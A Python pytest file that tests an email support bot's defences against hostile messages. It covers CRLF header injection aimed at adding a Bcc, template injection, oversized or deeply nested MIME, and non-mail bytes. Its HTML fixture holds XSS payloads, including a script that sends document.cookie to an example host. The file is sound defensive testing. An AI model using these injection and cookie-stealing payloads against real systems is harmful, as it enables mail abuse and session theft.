"""Hostile input gets nothing: header and template injection, script, MIME bombs, non-mail.

Every test feeds the real code (parse, screen, respond, render, compose; no mocks) what an
attacker would send, and checks what a security reviewer would check in the result:

- CRLF injection: encoded and raw CR/LF in the Subject, the From display name and the
  threading headers never add a header (Bcc) to the composed reply, nor change its recipient;
- template injection: Jinja2 or str.format syntax from the customer is echoed as text, never run;
- HTML: script, style and event-handler content never reaches `new_text` or the draft HTML;
- bounded MIME: deep nesting and thousands of parts stop at `MAX_DEPTH` / `MAX_PARTS` with a
  defect recorded, and a 1 MB header line is read;
- non-mail: empty input is a `ParseError`; any other bytes are a `Mail` that the screens stop.

Only reserved numbers (+1 202 555 0142, +44 20 7946 0123) and example domains are used.
"""

from __future__ import annotations

import base64
import random
from email import policy
from email.message import EmailMessage, Message
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.parser import BytesParser

import pytest

from bot.config import Settings
from bot.model import Action, CaseContext, CaseType, Decision, Draft, Mail
from bot.outbox.compose import compose_reply, new_message_id
from bot.parse import ParseError, parse_mail
from bot.parse.html_text import html_to_text
from bot.parse.structure import MAX_DEPTH, MAX_PARTS
from bot.pipeline import read, respond, screen_context
from replies import ReplyContext, render_draft
from replies.locales import available
from tests.factories import SettingsFactory

CASE = CaseContext(token="PD-1001")
TOKEN_MARK = "[#PD-1001]"
CUSTOMER = "jane@example.com"
VICTIM = "victim@example.net"
INJECTED = f"x\r\nBcc: {VICTIM}"
BODY = b"Hello, please port +1 202 555 0142 to you.\r\nThanks, Jane\r\n"

# What compose_reply writes for an automatic reply to a message with a Message-ID; nothing else
# may appear. A Message-ID that is not one plain bracketed token is dropped at parse, and the
# reply then has no In-Reply-To or References.
OUR_HEADERS = frozenset(
    {
        "from",
        "to",
        "subject",
        "date",
        "message-id",
        "in-reply-to",
        "references",
        "auto-submitted",
        "x-auto-response-suppress",
        "x-portdesk-loop",
        "mime-version",
        "content-type",
        "content-language",
    }
)
THREAD_HEADERS = frozenset({"in-reply-to", "references"})


@pytest.fixture
def settings(settings_for: SettingsFactory) -> Settings:
    return settings_for()


def encoded_word(data: bytes, charset: str = "utf-8") -> bytes:
    """An RFC 2047 B-encoded word carrying `data` as it is (no validation of the charset)."""
    return b"=?" + charset.encode("ascii") + b"?b?" + base64.b64encode(data) + b"?="


def raw_mail(
    *,
    sender: bytes = b"Jane Doe <jane@example.com>",
    subject: bytes = b"Port our numbers",
    message_id: bytes = b"<m1@example.com>",
    extra: bytes = b"",
    content_type: bytes = b"text/plain; charset=utf-8",
    body: bytes = BODY,
) -> bytes:
    """A message written byte by byte, so that raw CR, LF and folding reach the parser as sent."""
    return (
        b"From: " + sender + b"\r\n"
        b"To: support@portdesk.example\r\n"
        b"Subject: " + subject + b"\r\n"
        b"Date: Fri, 20 Nov 2026 09:30:00 +0000\r\n"
        b"Message-ID: " + message_id + b"\r\n" + extra + b"MIME-Version: 1.0\r\n"
        b"Content-Type: " + content_type + b"\r\n"
        b"\r\n" + body
    )


def person_mail(raw: bytes, settings: Settings) -> Mail:
    """`raw` read as the runner reads it; it must pass the screens as mail from a person."""
    screened = read(raw, screen_context(settings))
    assert screened.verdict is None, screened.verdict
    assert screened.mail.sender is not None
    return screened.mail


def drafted(mail: Mail, settings: Settings) -> Draft:
    outcome = respond(mail, CASE, settings)
    assert outcome.draft is not None
    return outcome.draft


def reply_bytes(mail: Mail, draft: Draft, settings: Settings, message_id: str) -> bytes:
    """The reply exactly as the runner composes it: to the sender's address, sent automatically."""
    assert mail.sender is not None
    return compose_reply(
        draft,
        mail,
        recipient=mail.sender.email,
        identity=settings.identity,
        message_id=message_id,
        automatic=True,
    )


def header_names(composed: bytes) -> list[str]:
    """The header names of `composed`, read line by line from the bytes (not by a parser)."""
    head = composed.split(b"\r\n\r\n", 1)[0]
    names: list[str] = []
    for line in head.split(b"\r\n"):
        assert b"\r" not in line and b"\n" not in line, f"bare CR or LF in {line!r}"
        if line[:1] in (b" ", b"\t"):
            continue  # a folded continuation of the header above
        name, colon, _ = line.partition(b":")
        assert colon, f"header line without a name: {line!r}"
        names.append(name.decode("ascii").lower())
    return names


# --- 1. CRLF injection -------------------------------------------------------------------------

INJECTION_CASES = [
    pytest.param(raw_mail(subject=encoded_word(INJECTED.encode())), id="subject-b-encoded-crlf"),
    pytest.param(
        raw_mail(subject=b"=?utf-8?q?x=0D=0ABcc=3A_victim=40example=2Enet?="),
        id="subject-q-encoded-crlf",
    ),
    pytest.param(
        raw_mail(
            subject=encoded_word(b"x\x0bBcc: victim@example.net\x0c\x1c\xc2\x85\xe2\x80\xa8y")
        ),
        id="subject-encoded-other-line-breaks",
    ),
    pytest.param(raw_mail(subject=b"hello\r\n Bcc: victim@example.net"), id="subject-folded"),
    pytest.param(raw_mail(subject=b"hello\rBcc: victim@example.net"), id="subject-bare-cr"),
    pytest.param(raw_mail(subject=b"hello\nBcc: victim@example.net"), id="subject-bare-lf"),
    pytest.param(
        raw_mail(sender=b'"' + encoded_word(INJECTED.encode()) + b'" <jane@example.com>'),
        id="display-name-quoted-encoded-crlf",
    ),
    pytest.param(
        raw_mail(extra=b"References: <r1@example.com>\r\n\tBcc: victim@example.net\r\n"),
        id="references-folded",
    ),
    pytest.param(
        raw_mail(sender=encoded_word(INJECTED.encode()) + b" <jane@example.com>"),
        id="display-name-encoded-crlf",
    ),
    pytest.param(
        raw_mail(subject=encoded_word(INJECTED.encode(), charset="x-unknown")),
        id="subject-unknown-charset",
    ),
    pytest.param(
        raw_mail(subject=encoded_word(b"\xff " + INJECTED.encode())),
        id="subject-invalid-utf8",
    ),
    pytest.param(
        raw_mail(subject=encoded_word(encoded_word(INJECTED.encode()))),
        id="subject-double-encoded",
    ),
    pytest.param(
        raw_mail(message_id=encoded_word(INJECTED.encode())),
        id="message-id-encoded-crlf",
    ),
    pytest.param(
        raw_mail(message_id=b"abc\r\n\tBcc:victim@example.net"),
        id="message-id-folded",
    ),
]


@pytest.mark.parametrize("raw", INJECTION_CASES)
def test_composed_reply_has_only_our_headers(raw: bytes, settings: Settings) -> None:
    mail = person_mail(raw, settings)
    draft = drafted(mail, settings)
    message_id = new_message_id(settings.identity.message_id_domain)
    composed = reply_bytes(mail, draft, settings, message_id)

    names = header_names(composed)
    assert "bcc" not in names and "cc" not in names
    assert len(names) == len(set(names)), f"a header appears twice: {names}"
    expected = OUR_HEADERS if mail.message_id else OUR_HEADERS - THREAD_HEADERS
    assert set(names) == expected

    parsed = BytesParser(policy=policy.default).parsebytes(composed)
    assert sorted(k.lower() for k in parsed) == sorted(names)
    assert parsed.get_all("Bcc") is None
    assert str(parsed["To"]) == CUSTOMER
    assert str(parsed["From"]) == "Porting Support <support@portdesk.example>"
    assert str(parsed["Message-ID"]) == message_id
    if mail.message_id:
        assert str(parsed["In-Reply-To"]) == mail.message_id
        assert "=?" not in mail.message_id and "\n" not in mail.message_id
    subject = str(parsed["Subject"])
    assert "\r" not in subject and "\n" not in subject
    # strip(): the stdlib may fold a long subject right after "Subject:", and reads the fold back.
    assert subject.strip() == draft.subject
    assert subject.strip().startswith("Re: ") and subject.endswith(TOKEN_MARK)


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param(raw_mail(subject=encoded_word(INJECTED.encode())), id="subject-encoded"),
        pytest.param(raw_mail(subject=b"hello\r\n\tBcc: victim@example.net"), id="subject-folded"),
        pytest.param(
            raw_mail(subject=encoded_word(INJECTED.encode(), charset="x-unknown")),
            id="subject-unknown-charset",
        ),
        pytest.param(
            raw_mail(sender=b'"' + encoded_word(INJECTED.encode()) + b'" <jane@example.com>'),
            id="display-name-quoted-encoded",
        ),
        pytest.param(
            raw_mail(extra=b"References: <r1@example.com>\r\n <r2@example.com>\r\n"),
            id="references-folded",
        ),
        pytest.param(
            raw_mail(extra=b"X-Note: " + encoded_word(INJECTED.encode()) + b"\r\n"),
            id="other-header-encoded",
        ),
        pytest.param(
            raw_mail(message_id=b"abc\r\n\tBcc:victim@example.net"),
            id="message-id-folded",
        ),
        pytest.param(
            raw_mail(extra=b"In-Reply-To: abc\r\n\tBcc:victim@example.net\r\n"),
            id="in-reply-to-folded",
        ),
    ],
)
def test_header_values_of_a_mail_carry_no_line_break(raw: bytes) -> None:
    mail = parse_mail(raw)
    assert mail.sender is not None
    values = {
        "subject": mail.subject,
        "message_id": mail.message_id,
        "in_reply_to": mail.in_reply_to,
        "sender.name": mail.sender.name,
        "sender.email": mail.sender.email,
        **{f"references[{i}]": r for i, r in enumerate(mail.references)},
        **{f"header {name}": value for name, value in mail.headers},
    }
    broken = {key: value for key, value in values.items() if "\r" in value or "\n" in value}
    assert broken == {}


@pytest.mark.parametrize(
    "sender",
    [
        pytest.param(
            b'"' + encoded_word(b"victim@example.net") + b'" <jane@example.com>',
            id="quoted-encoded-address",
        ),
        pytest.param(
            b"=?utf-8?q?victim=40example=2Enet?= <jane@example.com>",
            id="encoded-address",
        ),
        pytest.param(
            encoded_word(b"Jane <victim@example.net>, ") + b" <jane@example.com>",
            id="encoded-angle-address",
        ),
        pytest.param(
            encoded_word(INJECTED.encode()) + b" <jane@example.com>",
            id="encoded-crlf-bcc",
        ),
    ],
)
def test_an_encoded_display_name_cannot_change_the_sender_address(sender: bytes) -> None:
    mail = parse_mail(raw_mail(sender=sender))
    assert mail.sender is not None
    assert mail.sender.email == CUSTOMER


def test_reply_says_its_language(settings: Settings) -> None:
    mail = person_mail(raw_mail(), settings)
    draft = drafted(mail, settings)
    composed = reply_bytes(mail, draft, settings, "<portdesk.1@portdesk.example>")
    parsed = BytesParser(policy=policy.default).parsebytes(composed)
    assert str(parsed["Content-Language"]) == draft.language == "en"


# --- 2. Template injection ---------------------------------------------------------------------

TEMPLATES = ("{{ 7*7 }}", "{% for x in range(3) %}X{% endfor %}", "{{ config }}")
HOSTILE_SUBJECT = " ".join(TEMPLATES)


def assert_not_evaluated(*texts: str) -> None:
    """No trace of a template having run: 7*7, the loop's output, or a Jinja object."""
    for text in texts:
        assert "49" not in text
        assert "XXX" not in text
        assert "Config" not in text and "Undefined" not in text and "jinja" not in text.lower()


def test_customer_template_syntax_is_echoed_as_text(settings: Settings) -> None:
    # A name starting with "-" passes the greeting's first-name rule, so the name is echoed.
    raw = raw_mail(
        sender=b'"-{{7*7}}" <jane@example.com>',
        subject=HOSTILE_SUBJECT.encode(),
        body=b"Please port +1 202 555 0142 to you. "
        + " ".join(TEMPLATES).encode()
        + b"\r\n{name} {0} {token}\r\nThanks, Jane\r\n",
    )
    mail = person_mail(raw, settings)
    assert mail.subject == HOSTILE_SUBJECT
    assert all(t in mail.new_text for t in TEMPLATES) and "{name} {0} {token}" in mail.new_text
    draft = drafted(mail, settings)

    assert draft.subject == f"Re: {HOSTILE_SUBJECT} {TOKEN_MARK}"
    assert draft.text.startswith("Hello -{{7*7}},\n")
    assert "<p>Hello -{{7*7}},</p>" in draft.html
    assert "PD-1001" in draft.text and "(202) 555-0142" in draft.text
    assert_not_evaluated(draft.subject, draft.text, draft.html)

    composed = reply_bytes(mail, draft, settings, "<portdesk.2@portdesk.example>")
    parsed = BytesParser(policy=policy.default).parsebytes(composed)
    assert str(parsed["Subject"]).strip() == draft.subject  # the stdlib folds it after "Subject:"


PAYLOAD = "-{{7*7}}{%for x in range(3)%}X{%endfor%}{{config}}{name}{0}{token}{name.__class__}"


@pytest.mark.parametrize("language", available())
@pytest.mark.parametrize(
    "decision",
    [
        Decision(Action.ASK_MISSING, ("r",), ("loa", "port_date")),
        Decision(Action.SEND_INSTRUCTIONS, ("r",)),
        Decision(Action.ACKNOWLEDGE, ("r",)),
        Decision(Action.REFER_TO_AGENT, ("r",)),
    ],
    ids=lambda d: d.action.value,
)
def test_render_draft_treats_customer_strings_as_data(decision: Decision, language: str) -> None:
    context = ReplyContext(
        case_token="PD-1001",
        case_type=CaseType.PORT_IN,
        language=language,
        customer_name=PAYLOAD,
        subject=PAYLOAD,
        numbers=(),
        signature="Porting Support",
    )
    draft = render_draft(decision, context)
    assert draft is not None
    assert draft.subject == f"Re: {PAYLOAD} {TOKEN_MARK}"
    # The greeting names the customer verbatim: no Jinja2 and no second str.format pass.
    assert PAYLOAD in draft.text.splitlines()[0]
    assert PAYLOAD in draft.html
    assert_not_evaluated(draft.subject, draft.text, draft.html)
    assert "<class" not in draft.text and "&lt;class" not in draft.html


# --- 3. HTML and script ------------------------------------------------------------------------

HOSTILE_HTML = """<html><head><title>alert(0)</title><script>alert(1)</script>
<style>body { background: url(javascript:alert(2)) }</style></head><body>
<p>Please port +1 202 555 0142 to you.</p>
<script type="text/javascript">document.location='https://example.org/?c='+document.cookie
</script>
<img src="https://example.org/x.png" onerror="alert(3)">
<iframe src="https://example.org/evil" onload="alert(4)"></iframe>
<SCRIPT>alert(5)</SCRIPT >
<svg onload="alert(6)"><script>alert(7)</script></svg>
<a href="javascript:alert(8)">here</a>
<blockquote>On Monday support wrote:<script>alert(9)</script> send the LOA</blockquote>
</body></html>
"""
SCRIPT_TRACES = ("alert(", "document.", "javascript:", "onerror", "onload", "<script", "<iframe")


def test_html_only_mail_yields_text_without_script(settings: Settings) -> None:
    raw = raw_mail(
        sender=b'"-<script>alert(1)</script>" <jane@example.com>',
        content_type=b"text/html; charset=utf-8",
        body=HOSTILE_HTML.encode(),
    )
    mail = person_mail(raw, settings)
    assert "Please port +1 202 555 0142 to you." in mail.new_text
    assert "send the LOA" in mail.quoted_text
    for text in (mail.new_text, mail.quoted_text):
        for trace in SCRIPT_TRACES:
            assert trace not in text.lower(), trace

    draft = drafted(mail, settings)
    html = draft.html.lower()
    for trace in ("<script", "onerror", "onload", "<iframe", "javascript:", "<svg", "<img"):
        assert trace not in html, trace
    # The hostile display name is echoed in the greeting, escaped.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in draft.html


@pytest.mark.parametrize(
    "html",
    [
        pytest.param("<p>Hi</p><SCRIPT>alert(1)</SCRIPT><p>end</p>", id="upper-case"),
        pytest.param("<p>Hi</p><script>alert(1)</script ><p>end</p>", id="space-in-end-tag"),
        pytest.param("<p>Hi</p><script><!-- alert(1) --></script><p>end</p>", id="comment"),
        pytest.param(
            "<p>Hi</p><script>var s='</scr'+'ipt>'; alert(1)</script><p>end</p>",
            id="end-tag-in-string",
        ),
        pytest.param("<p>Hi</p><script><script>alert(1)</script><p>end</p>", id="nested-open"),
        pytest.param("<p>Hi</p><script>alert(1)", id="unclosed"),
        pytest.param("<p>Hi</p><style>p{x:expression(alert(1))}</style><p>end</p>", id="style"),
        pytest.param("<p>Hi</p><noscript><script>alert(1)</script></noscript>", id="noscript"),
        pytest.param("<p>Hi</p><svg><script>alert(1)</script></svg><p>end</p>", id="svg"),
        pytest.param("<head><script>alert(1)</script></head><p>Hi</p>", id="head"),
        pytest.param("<p>Hi</p><img src=x onerror=alert(1)><p>end</p>", id="attribute"),
        pytest.param("<p>Hi</p><![CDATA[<script>alert(1)</script>]]>", id="cdata"),
        pytest.param("<p>Hi</p><blockquote><script>alert(1)</script></blockquote>", id="quoted"),
    ],
)
def test_html_to_text_drops_script_content(html: str) -> None:
    converted = html_to_text(html)
    assert converted.text.startswith("Hi")
    for part in (converted.text, converted.quoted):
        assert "alert" not in part and "script" not in part.lower()


# --- 4. Bounded MIME ---------------------------------------------------------------------------


def addressed(message: Message, subject: str) -> Message:
    message["From"] = f"Jane Doe <{CUSTOMER}>"
    message["To"] = "support@portdesk.example"
    message["Subject"] = subject
    message["Message-ID"] = "<mime1@example.com>"
    return message


def test_multipart_nested_200_deep_stops_at_max_depth() -> None:
    chain: Message = MIMEText("BOTTOM: please port +44 20 7946 0123")
    for _ in range(200):
        outer = MIMEMultipart("mixed")
        outer.attach(chain)
        chain = outer
    top = MIMEMultipart("mixed")
    top.attach(MIMEText("Please port +1 202 555 0142 to you."))
    top.attach(chain)
    raw = addressed(top, "Nested 200 deep").as_bytes()

    mail = parse_mail(raw)  # no RecursionError
    assert "MimeTooDeepOrLarge" in mail.defects
    # One part type per level walked: the walk stopped at MAX_DEPTH, not at level 200.
    assert mail.part_types.count("multipart/mixed") <= MAX_DEPTH + 1
    assert len(mail.part_types) <= MAX_DEPTH + 2
    assert mail.new_text == "Please port +1 202 555 0142 to you."
    assert "BOTTOM" not in mail.new_text and mail.attachments == ()


def test_forwarded_mail_nested_200_deep_stops_at_max_depth() -> None:
    # Built level by level: the stdlib generator itself recurses too deep for 200 nested parts.
    inner = EmailMessage()
    inner.set_content("BOTTOM: please port +44 20 7946 0123")
    raw = addressed(inner, "level 200").as_bytes()
    for level in range(199, -1, -1):
        outer = EmailMessage()
        outer.set_content(f"Text at level {level}.")
        outer.add_attachment(raw, maintype="message", subtype="rfc822", cte="8bit")
        raw = addressed(outer, f"level {level}").as_bytes()

    mail = parse_mail(raw)  # no RecursionError, whichever parser read it
    assert "MimeTooDeepOrLarge" in mail.defects
    assert mail.new_text == "Text at level 0."
    assert 0 < len(mail.forwarded) <= MAX_DEPTH
    assert all("BOTTOM" not in f.text for f in mail.forwarded)
    assert "level 200" not in {f.subject for f in mail.forwarded}


def test_5000_attachments_stop_at_max_parts() -> None:
    message = EmailMessage()
    message.set_content("Please port +1 202 555 0142 to you.")
    for index in range(5000):
        message.add_attachment(
            b"%PDF-1.4 x", maintype="application", subtype="pdf", filename=f"loa-{index}.pdf"
        )
    mail = parse_mail(addressed(message, "5000 attachments").as_bytes())
    assert "MimeTooDeepOrLarge" in mail.defects
    assert len(mail.part_types) <= MAX_PARTS
    assert 0 < len(mail.attachments) <= MAX_PARTS
    assert "loa-0.pdf" in {a.filename for a in mail.attachments}
    assert "loa-4999.pdf" not in {a.filename for a in mail.attachments}
    assert mail.new_text == "Please port +1 202 555 0142 to you."


def test_5000_text_parts_stop_at_max_parts() -> None:
    message = MIMEMultipart("mixed")
    message.attach(MIMEText("Please port +1 202 555 0142 to you."))
    for index in range(5000):
        message.attach(MIMEText(f"part {index} end"))
    mail = parse_mail(addressed(message, "5000 parts").as_bytes())
    assert "MimeTooDeepOrLarge" in mail.defects
    assert len(mail.part_types) <= MAX_PARTS
    assert mail.new_text.startswith("Please port +1 202 555 0142 to you.")
    assert "part 0 end" in mail.new_text
    assert "part 4999 end" not in mail.new_text
    assert mail.new_text.count(" end") < MAX_PARTS


MEGABYTE = 1_000_000
LONG_HEADERS = [
    pytest.param(b"", b"A" * MEGABYTE, id="subject-one-word"),
    pytest.param(b"", b"port " * (MEGABYTE // 5), id="subject-words"),
    pytest.param(b"X-Junk: " + b"A" * MEGABYTE + b"\r\n", b"Port", id="unknown-header"),
    pytest.param(
        b"References: " + b"<r@example.com> " * (MEGABYTE // 16) + b"\r\n",
        b"Port",
        id="references",
    ),
]


@pytest.mark.parametrize(("extra", "subject"), LONG_HEADERS)
def test_a_one_megabyte_header_line_is_read(
    extra: bytes, subject: bytes, settings: Settings
) -> None:
    raw = raw_mail(subject=subject, extra=extra)
    assert len(raw) > MEGABYTE
    screened = read(raw, screen_context(settings))
    assert screened.verdict is None
    assert screened.mail.sender is not None and screened.mail.sender.email == CUSTOMER
    assert screened.mail.message_id == "<m1@example.com>"
    assert screened.mail.new_text.startswith("Hello, please port +1 202 555 0142")
    assert len(screened.mail.subject) >= len(subject.strip()) * 0.99


def test_respond_to_a_one_megabyte_subject_does_not_raise(settings: Settings) -> None:
    mail = person_mail(raw_mail(subject=b"A" * MEGABYTE), settings)
    outcome = respond(mail, CASE, settings)
    assert outcome.decision.action is not Action.NO_REPLY


# --- 5. Not mail at all ------------------------------------------------------------------------


@pytest.mark.parametrize("raw", [b"", b" ", b"\r\n", b" \r\n\t\n\r\n"], ids=repr)
def test_empty_input_is_a_parse_error(raw: bytes, settings: Settings) -> None:
    with pytest.raises(ParseError):
        read(raw, screen_context(settings))


def _random_bytes(size: int, seed: int) -> bytes:
    generator = random.Random(seed)
    return bytes(generator.randrange(256) for _ in range(size))


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param(_random_bytes(65536, 1), id="random-64k"),
        pytest.param(_random_bytes(17, 2), id="random-17"),
        pytest.param(b"\x00" * 4096, id="nul-bytes"),
        pytest.param(b"\x89PNG\r\n\x1a\n" + _random_bytes(2048, 3), id="png"),
        pytest.param(b"PK\x03\x04" + _random_bytes(2048, 4), id="zip"),
        pytest.param("\ufeffPlease port +1 202 555 0142".encode("utf-16"), id="utf-16-text"),
        pytest.param(b":\r\n::\r\n: :\r\n\r\n", id="colons"),
        pytest.param(b"\r\n\r\nPlease port +1 202 555 0142", id="body-without-headers"),
    ],
)
def test_bytes_that_are_not_mail_are_read_and_never_answered(
    raw: bytes, settings: Settings
) -> None:
    # parse_mail raises ParseError only for empty input; the stdlib parser reads any other
    # bytes, so garbage becomes a Mail without a sender, which the null-sender screen stops.
    screened = read(raw, screen_context(settings))
    assert screened.mail.sender is None
    assert screened.verdict is not None
    assert screened.verdict.screen == "null-sender"
    assert screened.bounced_ids == ()
